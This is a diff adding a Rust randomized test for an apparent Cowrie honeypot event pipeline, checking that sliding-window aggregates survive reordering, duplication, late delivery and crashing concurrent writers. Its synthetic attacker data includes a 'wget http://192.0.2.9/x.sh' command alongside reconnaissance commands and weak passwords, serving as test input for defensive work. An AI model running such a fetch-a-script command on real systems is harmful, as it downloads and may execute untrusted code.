@@ -1,0 +1,264 @@
+//! Sliding windows equal a recomputation from the events, whatever the order, the repetition, the lateness, the competitors and their crashes.
+
+use std::{
+    collections::{BTreeMap, VecDeque},
+    io::Write,
+    process::Command,
+    sync::{
+        Arc, Mutex,
+        atomic::{AtomicU64, Ordering},
+    },
+    time::Duration,
+};
+
+use chrono::DateTime;
+use cowriestream::servers::{DataDir, Servers, Wanted};
+use events::{SensorId, Source};
+use processor::{Prepared, Windows, keep};
+use store::{Grain, Store, StoreArgs};
+
+use crate::harness::{directory, eventually, psql};
+
+/// 2026-01-05, a Monday: the first of thirteen days.
+const START: i64 = 1_767_571_200;
+const DAYS: u64 = 13;
+
+/// SplitMix64.
+struct Random(u64);
+
+impl Random {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+
+    fn one_of<'a>(&mut self, some: &[&'a str]) -> &'a str {
+        some[self.below(some.len() as u64) as usize]
+    }
+}
+
+type Line = (SensorId, Vec<u8>);
+
+/// Some hundred events over thirteen days, most of them within a few busy hours.
+fn lines(random: &mut Random) -> Vec<Line> {
+    let busy: Vec<u64> = (0..4).map(|_| random.below(DAYS * 24)).collect();
+    let count = 400 + random.below(200);
+    let mut lines = Vec::new();
+    for n in 0..count {
+        let hour = if random.below(10) < 6 { busy[random.below(4) as usize] } else { random.below(DAYS * 24) };
+        let micros = (START + hour as i64 * 3_600) * 1_000_000 + random.below(3_600_000_000) as i64;
+        let time = DateTime::from_timestamp_micros(micros).unwrap().format("%Y-%m-%dT%H:%M:%S%.6fZ");
+        let sensor = random.one_of(&["a", "b", "c"]);
+        let session = random.below(40);
+        let ip = random.one_of(&["192.0.2.1", "192.0.2.2", "198.51.100.7", "2001:db8:1::5", "2001:db8:1:2::6"]);
+        let user = random.one_of(&["root", "ad:min", r"a\\b", ""]);
+        let password = random.one_of(&["123456", "x:y", "\\u0000p", "pässwort"]);
+        let more = match random.below(12) {
+            0 => r#""eventid":"cowrie.session.connect","protocol":"ssh""#.to_owned(),
+            1 => format!(r#""eventid":"cowrie.login.success","username":"{user}","password":"{password}""#),
+            2 | 3 => format!(r#""eventid":"cowrie.login.failed","username":"{user}","password":"{password}""#),
+            4 | 5 => format!(r#""eventid":"cowrie.command.input","input":"{}""#, COMMANDS[random.below(4) as usize]),
+            6 => format!(r#""eventid":"cowrie.client.kex","hassh":"{}""#, random.one_of(&["h1", "h2"])),
+            7 => format!(r#""eventid":"cowrie.client.version","version":"{}""#, random.one_of(&["b'SSH-2.0-Go'", "SSH-2.0-Go", "SSH-2.0-x"])),
+            8 => format!(r#""eventid":"cowrie.session.file_download","shasum":"{}""#, random.one_of(&["aa", "bb"])),
+            9 => format!(r#""eventid":"cowrie.direct-tcpip.request","dst_ip":"{}","dst_port":{}"#, random.one_of(&["ya.ru", "::1"]), 80 + random.below(2)),
+            10 => r#""eventid":"cowrie.session.closed","duration":1.5"#.to_owned(),
+            _ => r#""eventid":"cowrie.log.closed","size":0"#.to_owned(),
+        };
+        let line = format!(r#"{{"timestamp":"{time}","session":"{session:012x}","src_ip":"{ip}","n":{n},{more}}}"#);
+        lines.push((sensor.parse().unwrap(), line.into_bytes()));
+    }
+    lines
+}
+
+const COMMANDS: [&str; 4] = ["uname -a", "  uname   -a ", "cat /proc/cpuinfo | grep name | wc -l", "wget http://192.0.2.9/x.sh"];
+
+/// The order of delivery: mostly in time, some up to days late, some twice or three times; cut into batches.
+fn deliveries(random: &mut Random, lines: &[Line]) -> VecDeque<Vec<Line>> {
+    let mut order: Vec<(u64, &Line)> = Vec::new();
+    for (n, line) in lines.iter().enumerate() {
+        for _ in 0..1 + random.below(5).saturating_sub(2) {
+            let late = if random.below(5) == 0 { random.below(lines.len() as u64) } else { random.below(8) };
+            order.push((n as u64 + late, line));
+        }
+    }
+    order.sort_by_key(|(at, _)| *at);
+    let mut batches = VecDeque::new();
+    let mut rest = order.as_slice();
+    while !rest.is_empty() {
+        let (batch, after) = rest.split_at(rest.len().min(1 + random.below(40) as usize));
+        batches.push_back(batch.iter().map(|(_, line)| (*line).clone()).collect());
+        rest = after;
+    }
+    batches
+}
+
+/// A competitor: takes batches and commits them. Now and then it dies before the commit is done, or after it and before the batch is acknowledged.
+async fn compete(url: String, batches: Arc<Mutex<VecDeque<Vec<Line>>>>, done: Arc<AtomicU64>, mut random: Random) {
+    let source = Source::default();
+    let mut store = connect(&url).await;
+    loop {
+        let Some(batch) = batches.lock().unwrap().pop_front() else { return };
+        let prepared: Vec<_> = batch.iter().map(|(sensor, line)| Prepared::of_line(sensor, line, None, &source, None)).collect();
+        let dies = random.below(6);
+        let patience = if dies == 0 { Duration::from_micros(random.below(20_000)) } else { Duration::from_secs(60) };
+        let kept = tokio::time::timeout(patience, keep(&store, &prepared, Windows::Kept)).await;
+        let unfinished = match kept {
+            Ok(Ok(_)) => dies == 1 && random.below(2) == 0,
+            Ok(Err(store::Failure::Retry(_))) => true,
+            Err(_) => {
+                // Its connections end with it.
+                store = connect(&url).await;
+                true
+            }
+            Ok(Err(store::Failure::Reject(error))) => {
+                // The partition was dropped after it was looked up.
+                assert!(format!("{error:#}").contains("no partition"), "{error:#}");
+                store.forget_days();
+                true
+            }
+        };
+        if unfinished {
+            batches.lock().unwrap().push_back(batch);
+        } else {
+            done.fetch_add(1, Ordering::Relaxed);
+        }
+    }
+}
+
+async fn connect(url: &str) -> Store {
+    Store::connect(&StoreArgs { database_url: Some(url.to_owned()), database_connections: 4 }).await.unwrap()
+}
+
+/// Rolls up what is due.
+async fn roll_up(store: &Store) {
+    let mut connection = store.connection().await.unwrap();
+    let visits = store::due_visits(&mut connection, Duration::ZERO).await.unwrap();
+    for visit in visits {
+        loop {
+            let mut transaction = store.begin().await.unwrap();
+            let taken = store::visit(&mut transaction, visit).await.unwrap();
+            if taken == 0 {
+                store::end_visit(&mut transaction, visit).await.unwrap();
+            }
+            transaction.commit().await.unwrap();
+            if taken == 0 {
+                break;
+            }
+        }
+    }
+}
+
+/// One seed in a database of its own.
+async fn seed(url: String, seed: u64) -> BTreeMap<String, u64> {
+    let mut random = Random(seed.wrapping_mul(0x2545_f491_4f6c_dd1d));
+    let store = connect(&url).await;
+    let lines = lines(&mut random);
+    let batches = deliveries(&mut random, &lines);
+    let total = batches.len() as u64;
+    let (batches, done) = (Arc::new(Mutex::new(batches)), Arc::new(AtomicU64::new(0)));
+    let before = DateTime::from_timestamp(START + 7 * 86_400, 0).unwrap();
+    let leader = async {
+        for part in 1..=4 {
+            while done.load(Ordering::Relaxed) < total * part / 5 {
+                tokio::time::sleep(Duration::from_millis(1)).await;
+            }
+            roll_up(&store).await;
+            if part == 2 {
+                let mut connection = store.connection().await.unwrap();
+                while store::drop_oldest(&mut connection, Grain::Minute, before).await.unwrap().is_some() {}
+            }
+        }
+    };
+    let competitors = (0..3).map(|_| compete(url.clone(), batches.clone(), done.clone(), Random(random.next())));
+    futures_of(competitors, leader).await;
+    roll_up(&store).await;
+
+    let compared = compare(&url, &COMMANDS.map(str::to_owned), seed);
+    assert!(compared.values().all(|&comparisons| comparisons >= 20), "seed {seed}: too few comparisons: {compared:?}");
+    compared
+}
+
+/// Compares windows of every dimension with a recomputation in SQL; `commands` are all that were typed. Returns how many comparisons were not of
+/// nothing, by dimension.
+pub fn compare(url: &str, commands: &[String], seed: u64) -> BTreeMap<String, u64> {
+    let key = |command: &String| serde_json::json!({ "input": command, "key": events::bounded(&events::normal::normalise(command)) });
+    let normal = serde_json::Value::from(commands.iter().map(key).collect::<Vec<_>>()).to_string().replace('\'', "''");
+    let mut script = tempfile::NamedTempFile::new().unwrap();
+    let fill = format!("create temp table normal as select * from json_to_recordset('{normal}') as n (input text, key text)");
+    write!(script, "select setseed({});\n{fill};\n{}", (seed % 1_000) as f64 / 1_000.0, include_str!("windows.sql")).unwrap();
+    let out = Command::new("psql").args([url, "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-f"]).arg(script.path()).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let mut compared = BTreeMap::new();
+    for line in String::from_utf8_lossy(&out.stdout).lines().filter(|line| line.contains('|')) {
+        let (dimension, rest) = line.split_once('|').unwrap();
+        match rest.parse() {
+            Ok(comparisons) => compared.insert(dimension.to_owned(), comparisons),
+            Err(_) => panic!("seed {seed}: {line}"),
+        };
+    }
+    assert_eq!(compared.len(), 13, "seed {seed}: {}", String::from_utf8_lossy(&out.stdout));
+    compared
+}
+
+async fn futures_of(competitors: impl Iterator<Item = impl Future<Output = ()> + Send + 'static>, leader: impl Future<Output = ()>) {
+    let running: Vec<_> = competitors.map(tokio::task::spawn).collect();
+    leader.await;
+    for one in running {
+        one.await.unwrap();
+    }
+}
+
+/// `WINDOWS_SEEDS=10000` for more.
+#[tokio::test(flavor = "multi_thread")]
+async fn windows_equal_a_recomputation() {
+    let seeds: u64 = std::env::var("WINDOWS_SEEDS").map_or(200, |text| text.parse().unwrap());
+    let dir = directory();
+    let data = DataDir::take(&dir.path().join("p")).unwrap();
+    let mut servers = Servers::start(&data, Wanted { nats: false, postgres: true, redis: false }).await.unwrap();
+    let url = servers.urls.database.clone().unwrap();
+    let database = |name: &str| format!("{}/{name}", url.rsplit_once('/').unwrap().0);
+    psql(&url, "alter system set fsync = off");
+    psql(&url, "alter system set synchronous_commit = off");
+    psql(&url, "select pg_reload_conf()");
+    psql(&url, "create database migrated");
+    {
+        connect(&database("migrated")).await.migrate().await.unwrap();
+    }
+    let next = AtomicU64::new(0);
+    let one = || {
+        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
+        let mut sums = BTreeMap::<String, u64>::new();
+        loop {
+            let n = next.fetch_add(1, Ordering::Relaxed);
+            if n >= seeds {
+                return sums;
+            }
+            let name = format!("seed_{n}");
+            psql(&url, &format!("create database {name} template migrated strategy file_copy"));
+            for (dimension, comparisons) in runtime.block_on(seed(database(&name), n)) {
+                *sums.entry(dimension).or_default() += comparisons;
+            }
+            psql(&url, &format!("drop database {name} with (force)"));
+        }
+    };
+    eventually("nobody uses the template", || psql(&url, "select count(*) from pg_stat_activity where datname = 'migrated'").trim() == "0");
+    let sums: Vec<_> = std::thread::scope(|scope| {
+        let threads: Vec<_> = (0..AT_ONCE).map(|_| scope.spawn(one)).collect();
+        threads.into_iter().map(|thread| thread.join().unwrap()).collect()
+    });
+    let of = |dimension: &str| sums.iter().filter_map(|sums| sums.get(dimension)).sum::<u64>();
+    let comparisons: Vec<_> = events::Dimension::ALL.iter().map(|dimension| (dimension.name(), of(dimension.name()))).collect();
+    println!("{seeds} seeds, comparisons that were not of nothing, by dimension: {comparisons:?}");
+    servers.stop().await;
+}
+
+/// Seeds at the same time.
+const AT_ONCE: usize = 4;
